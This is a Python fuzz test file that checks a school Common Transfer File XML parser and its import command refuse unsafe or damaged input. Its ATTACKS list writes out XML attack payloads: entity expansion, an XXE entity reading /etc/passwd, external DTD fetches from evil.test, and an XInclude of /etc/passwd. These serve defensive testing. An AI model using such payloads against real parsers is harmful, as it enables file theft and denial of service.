"""Common Transfer Files from the outside, fuzzed: arbitrary bytes, damaged real CTF XML, and entity expansion or
external entity attempts put anywhere in it.

A CTF is read (pupils and per-pupil problems) or refused with :class:`UnsafeXml` / :class:`BadXml` saying why, before
anything is read; every pupil read maps to a valid FHIR Observation; ``kwg import ctf`` answers a refused file with
one line and exit code 2, never a traceback.
"""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from connectors.education.ctf import parse_ctf
from connectors.education.ctf_fhir import education_context
from connectors.education.safe_xml import BadXml, UnsafeXml
from gateway.imports.cli import import_app
from gateway.settings import Settings
from gateway.store.migrate import upgrade
from gateway.validation import validate_resource
from tests.fuzz.mutations import AWKWARD, mutated_text

CTF = Path(__file__).resolve().parents[1] / "fixtures" / "education" / "ctf-synthetic.xml"
TEXT = CTF.read_text(encoding="utf-8")
BODY = TEXT[TEXT.index("<CTfile>") :]

#: What an attacker puts in: DTDs with internal or external entities, parameter entities, references alone,
#: XInclude, and character references outside XML's range.
ATTACKS = [
    '<!DOCTYPE CTfile [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE CTfile SYSTEM "http://evil.test/ctf.dtd">',
    '<!DOCTYPE CTfile [<!ENTITY % p SYSTEM "http://evil.test/p.dtd"> %p;]>',
    "&b;",
    "&x;",
    "&#0;",
    "&#x110000;",
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
    "<![CDATA[</Pupil>]]>",
    '<?xml-stylesheet href="http://evil.test/x.xsl"?>',
]


@st.composite
def attacked(draw: st.DrawFn) -> bytes:
    """The real CTF with an attack spliced in at a random place (the prolog, an element, a text node)."""
    attack = draw(st.sampled_from(ATTACKS))
    prolog = draw(st.booleans())
    if prolog:
        return ('<?xml version="1.0" encoding="UTF-8"?>\n' + attack + BODY).encode()
    at = draw(st.integers(0, len(BODY)))
    return (BODY[:at] + attack + BODY[at:]).encode()


def read_or_refuse(data: bytes) -> None:
    try:
        result = parse_ctf(data)
    except (UnsafeXml, BadXml) as exc:
        assert str(exc)
        return
    for pupil in result.pupils:
        observation = education_context(pupil, result.school, patient_id="pupil-1", as_of=date(2026, 7, 18))
        assert [i for i in validate_resource(observation) if i.severity in ("error", "fatal")] == []
    assert all(e.message for e in result.errors)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=500))
@example(b'<?xml version="1.0" encoding="bogus"?><CTfile/>')
@example(b'<?xml version="1.0" encoding="UTF-16"?><CTfile/>')
@example(b"<CTfile>" * 5000)
def test_any_bytes_are_read_or_refused_with_a_reason(data: bytes) -> None:
    read_or_refuse(data)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_text([TEXT], "\n", ">"))
def test_a_damaged_ctf_is_read_or_refused_with_a_reason(text: str) -> None:
    read_or_refuse(text.encode("utf-8", "replace"))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.dictionaries(
        st.sampled_from(
            [
                "UPN",
                "Surname",
                "Forename",
                "DOB",
                "Gender",
                "Sex",
                "SENprovision",
                "StartDate",
                "LEA",
                "Estab",
                "URN",
                "SchoolName",
            ]
        ),
        AWKWARD,
        min_size=1,
    )
)
def test_any_element_text_is_read_or_reported(values: dict[str, str]) -> None:
    text = BODY
    for element, value in values.items():
        escaped = value.replace("&", "&amp;").replace("<", "&lt;")
        start = text.find(f"<{element}>")
        end = text.find(f"</{element}>", start)
        if start != -1 and end != -1:
            text = text[: start + len(element) + 2] + escaped + text[end:]
    read_or_refuse(text.encode("utf-8", "replace"))


@settings(max_examples=100, deadline=None)
@given(attacked())
def test_entity_expansion_and_external_entities_are_refused_before_anything_is_read(data: bytes) -> None:
    """A DTD or an entity reference anywhere is refused; other splices (XInclude, CDATA, a processing instruction)
    are read as plain content or refused, never followed and never a crash."""
    entity = any(marker in data for marker in (b"<!DOCTYPE", b"&b;", b"&x;", b"&#0;", b"&#x110000;"))
    try:
        parse_ctf(data)
    except (UnsafeXml, BadXml):
        return
    assert not entity, "a document with a DTD or an entity reference was read"


@pytest.mark.parametrize("attack", [ATTACKS[0], ATTACKS[1], "&#0;"], ids=["billion-laughs", "xxe", "bad-char"])
def test_the_import_command_refuses_a_bad_ctf_in_one_line(
    attack: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KWG_HOME", str(tmp_path))
    upgrade(Settings(home=tmp_path))
    path = tmp_path / "bad.xml"
    path.write_text(attack + BODY if attack.startswith("<!") else BODY.replace("<CTfile>", "<CTfile>" + attack))
    result = CliRunner().invoke(import_app, ["ctf", str(path)])
    assert result.exit_code == 2, result.output
    assert result.output.startswith("error: ") and "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
